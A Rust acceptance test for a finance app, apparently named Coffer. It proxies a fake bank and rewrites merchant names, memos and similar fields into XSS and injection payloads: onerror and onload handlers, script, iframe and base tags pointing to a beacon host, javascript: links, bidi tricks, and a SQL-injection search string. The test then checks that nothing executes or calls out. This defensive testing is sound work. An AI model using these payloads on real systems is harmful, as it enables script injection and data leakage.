//! A bank that writes attacks where names belong, synced and shown in the real window.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use acceptance::{BankProcess, Desk, Session, built, process::program};
use anyhow::{Context, Result, ensure};
use axum::Router;
use axum::body::{Body, to_bytes};
use axum::extract::{Request, State};
use axum::http::StatusCode;
use axum::response::{IntoResponse, Response};
use serde_json::{Value, json};
use tokio::net::TcpListener;

use crate::steps::{PLATYPUS, open_row, row_count, search, story, sync_is};
use crate::window::counting_server;

/// The largest answer that is rewritten.
const BYTES_MAX: usize = 64 << 20;

#[tokio::test]
async fn a_hostile_bank_is_synced_and_shown_and_nothing_of_it_runs_leaves_or_breaks_the_page()
-> Result<()> {
    story(async |session: &Session| {
        let honest = BankProcess::start(13).await?;
        let (beacon, beacons) = counting_server().await?;
        let hostile = Hostile::before(&honest, &beacon).await?;
        let data_dir = session.data_dir();
        for verb in [
            &["init", "--relay", "demo"][..],
            &[
                "link",
                "--institution",
                PLATYPUS,
                "--user",
                "user_good",
                "--password",
                "pass_good",
            ],
        ] {
            let mut cli = session.host(program(built("coffer-cli")?, "coffer-cli")?);
            cli.arg("--data-dir").arg(&data_dir).args(verb);
            cli.env("COFFER_PLAID_URL", &hostile);
            let ran = cli.output().await?;
            let told = String::from_utf8_lossy(&ran.stderr);
            ensure!(ran.status.success(), "{verb:?}: {told}");
        }

        let desk = Desk::start(session, &data_dir, &[("COFFER_PLAID_URL", &hostile)]).await?;
        desk.wait_for("nav-connections").await?;
        watch(&desk).await?;
        desk.click("refresh").await?;
        sync_is(&desk, "updated").await?;
        desk.wait_for("register-row").await?;
        ensure!(row_count(&desk).await? > 100, "its transactions are there");
        let shown = desk.texts("row-merchant").await?;
        ensure!(
            shown.iter().any(|text| text.contains("onerror")),
            "the attacks are on the screen, as text: {shown:?}"
        );
        is_inert(&desk, "transactions").await?;
        let row = desk.wait_for("register-row").await?;
        let id = row.attr("data-id").await?.context("a row has an id")?;
        open_row(&desk, &id).await?;
        // The drawer stands before what it shows is there.
        desk.wait_for("note-input").await?;
        is_inert(&desk, "drawer").await?;
        desk.click("delete-transaction").await?;
        desk.wait_for("notice").await?;
        is_inert(&desk, "deleted").await?;

        // What posted with another sign and another name is a question for a person; and the journal
        // tells what both of them were.
        honest.advance(6).await?;
        desk.click("refresh").await?;
        desk.click("nav-review").await?;
        desk.click("review-kind-doubt").await?;
        desk.wait_for("doubt").await?;
        is_inert(&desk, "review").await?;
        desk.click("nav-history").await?;
        desk.wait_for("sync-entry").await?;
        is_inert(&desk, "history").await?;
        desk.click("sync-entry").await?;
        desk.wait_for("sync-row").await?;
        is_inert(&desk, "history-sync").await?;
        for tray in ["withdrawn", "deleted"] {
            desk.click("nav-history").await?;
            desk.click(&format!("history-{tray}")).await?;
            desk.wait_for("tray-count").await?;
            is_inert(&desk, &format!("history-{tray}")).await?;
        }

        // Searched for what the attacks say, and by an attack.
        desk.click("nav-transactions").await?;
        desk.wait_for("register-row").await?;
        // Not the number of the tray that was left.
        let all = search(&desk, "", |count| count > 1_000).await?;
        search(&desk, "onerror", |count| count > 0 && count < all).await?;
        is_inert(&desk, "search").await?;
        let attack = "\"><img src=x onerror=window.ran=7>' OR 1=1 --";
        search(&desk, attack, |count| count < all).await?;
        is_inert(&desk, "search-by-attack").await?;
        search(&desk, "", |count| count == all).await?;

        for screen in [
            "dashboard",
            "accounts",
            "spending",
            "netWorth",
            "connections",
            "settings",
        ] {
            desk.click(&format!("nav-{screen}")).await?;
            desk.wait_for_css("main h1, main h2").await?;
            is_inert(&desk, screen).await?;
        }

        // Logos are wanted, and this bank names its own host for them: nobody is asked.
        desk.click("merchant-logos").await?;
        desk.wait_for_css("[data-testid=merchant-logos]:checked")
            .await?;
        desk.click("nav-transactions").await?;
        desk.wait_for("letter-mark").await?;
        is_inert(&desk, "logos").await?;
        ensure!(
            beacons.load(Ordering::SeqCst) == 0,
            "{} requests left for the attacker",
            beacons.load(Ordering::SeqCst)
        );
        ensure!(
            session.opened_in_browser().is_empty(),
            "nothing was opened: {:?}",
            session.opened_in_browser()
        );
        desk.stop().await
    })
    .await
}

/// Counts scripts, and collects what the content policy refuses from now on.
async fn watch(desk: &Desk<'_>) -> Result<()> {
    let script = "window.refused = [];
        window.scriptsBefore = document.scripts.length;
        document.addEventListener('securitypolicyviolation', (event) =>
            window.refused.push(`${event.violatedDirective} ${event.blockedURI}`));";
    desk.client().execute(script, vec![]).await?;
    Ok(())
}

/// Nothing ran, nothing was refused (so nothing was tried), nothing was made of a text, and the
/// page is as wide as its window.
async fn is_inert(desk: &Desk<'_>, screen: &str) -> Result<()> {
    desk.screenshot(&format!("hostile-{screen}")).await?;
    let script = "
        const made = document.body.querySelectorAll(
            'script:not([src^=\"/\"]), img, iframe, object, embed, video, audio, link, base, marquee, [srcdoc], a[href^=\"javascript:\"]');
        const handlers = [...document.body.querySelectorAll('*')].filter((element) =>
            [...element.attributes].some(({ name }) => name.startsWith('on')));
        const wide = [...document.querySelectorAll('html, body, #root, main')].filter((element) =>
            element.scrollWidth > element.clientWidth + 1).map((element) => element.tagName);
        const beyond = [...document.querySelectorAll('main :is(p, dd, ins, del, h1, h2, h3, button)')].filter(
            (element) => element.getBoundingClientRect().right > window.innerWidth + 1);
        return { ran: window.ran ?? null, refused: window.refused,
            scripts: document.scripts.length - window.scriptsBefore,
            made: [...made].map((element) => element.outerHTML.slice(0, 200)),
            handlers: handlers.length, wide, beyond: beyond.map((element) => element.outerHTML.slice(0, 200)) }";
    let found = desk.client().execute(script, vec![]).await?;
    let inert = json!({
        "ran": null, "refused": [], "scripts": 0, "made": [], "handlers": 0, "wide": [], "beyond": [],
    });
    ensure!(found == inert, "on {screen}: {found}");
    Ok(())
}

/// Stands between Coffer and an honest bank, and rewrites what the bank says.
struct Hostile {
    bank: String,
    beacon: String,
    http: reqwest::Client,
    next: AtomicUsize,
}

impl Hostile {
    async fn before(bank: &BankProcess, beacon: &str) -> Result<String> {
        // Whoever was first has installed the same one.
        let _ = rustls::crypto::ring::default_provider().install_default();
        let hostile = Arc::new(Self {
            bank: bank.url()?,
            beacon: beacon.to_owned(),
            http: reqwest::Client::builder().no_proxy().build()?,
            next: AtomicUsize::new(0),
        });
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let url = format!("http://{}", listener.local_addr()?);
        let router = Router::new().fallback(pass_on).with_state(hostile);
        tokio::spawn(async move { axum::serve(listener, router).await });
        Ok(url)
    }

    /// The next attack.
    fn attack(&self) -> String {
        let beacon = &self.beacon;
        let long = "W".repeat(10_000);
        let attacks = [
            format!("<img src=\"{beacon}/a.png\" onerror=\"window.ran=1\">"),
            format!("\"><script src=\"{beacon}/b.js\"></script><script>window.ran=2</script>"),
            "\u{202E}elppA\u{202C} <svg onload=window.ran=3>".to_owned(),
            format!("<iframe src=\"{beacon}/c\" srcdoc=\"<script>parent.ran=4</script>\">"),
            format!("<b onclick=window.ran=5>{long}</b>"),
            format!("Caf\u{0}é \u{0}<link rel=stylesheet href={beacon}/d.css>"),
            format!("👩‍👩‍👧‍👦🏳️‍🌈🔥<a href=\"javascript:window.ran=6\">{beacon}</a>"),
            "constructor".to_owned(),
            "\u{2067}\u{2066}\u{200F}\u{061C}<style>body{display:none}</style>".to_owned(),
            format!(
                "<base href=\"{beacon}/\"><meta http-equiv=refresh content=\"0;url={beacon}\">"
            ),
        ];
        let at = self.next.fetch_add(1, Ordering::Relaxed);
        attacks[at % attacks.len()].clone()
    }

    /// Puts attacks wherever a bank has a say.
    fn rewrite(&self, value: &mut Value) {
        match value {
            Value::Array(all) => all.iter_mut().for_each(|one| self.rewrite(one)),
            Value::Object(fields) => {
                // Money that went out comes in: no such row is believed to be the one it says.
                let posts = fields
                    .get("pending_transaction_id")
                    .is_some_and(Value::is_string);
                if let (true, Some(amount)) = (posts, fields.get_mut("amount")) {
                    let text = amount.to_string();
                    let turned = text
                        .strip_prefix('-')
                        .map_or_else(|| format!("-{text}"), str::to_owned);
                    *amount = turned.parse().map_or(Value::Null, Value::Number);
                }
                for (name, value) in fields.iter_mut() {
                    match name.as_str() {
                        "name"
                        | "official_name"
                        | "merchant_name"
                        | "original_description"
                        | "institution_name"
                        | "city"
                        | "address"
                        | "payee"
                        | "memo"
                        | "reason"
                        | "check_number"
                        | "account_owner"
                        | "website"
                        | "primary_color"
                        | "payment_processor" => *value = json!(self.attack()),
                        "logo_url" | "logo" | "icon_url" | "personal_finance_category_icon_url" => {
                            *value = json!(format!("{}/logo.png", self.beacon));
                        }
                        _ => self.rewrite(value),
                    }
                }
            }
            _ => {}
        }
    }
}

async fn pass_on(State(hostile): State<Arc<Hostile>>, request: Request) -> Response {
    match passed_on(&hostile, request).await {
        Ok(response) => response,
        Err(error) => (StatusCode::BAD_GATEWAY, error.to_string()).into_response(),
    }
}

async fn passed_on(hostile: &Hostile, request: Request) -> Result<Response> {
    let (parts, body) = request.into_parts();
    let path = parts.uri.path_and_query().map_or("/", |path| path.as_str());
    let mut headers = parts.headers.clone();
    headers.remove("host");
    headers.remove("content-length");
    let answer = hostile
        .http
        .request(parts.method, format!("{}{path}", hostile.bank))
        .headers(headers)
        .body(to_bytes(body, BYTES_MAX).await?)
        .send()
        .await?;
    let status = answer.status();
    let content_type = answer.headers().get("content-type").cloned();
    let bytes = answer.bytes().await?;
    let body = match serde_json::from_slice::<Value>(&bytes) {
        Ok(mut value) if status.is_success() => {
            hostile.rewrite(&mut value);
            Body::from(serde_json::to_vec(&value)?)
        }
        _ => Body::from(bytes),
    };
    let mut response = Response::builder().status(status);
    if let Some(content_type) = content_type {
        response = response.header("content-type", content_type);
    }
    Ok(response.body(body)?)
}
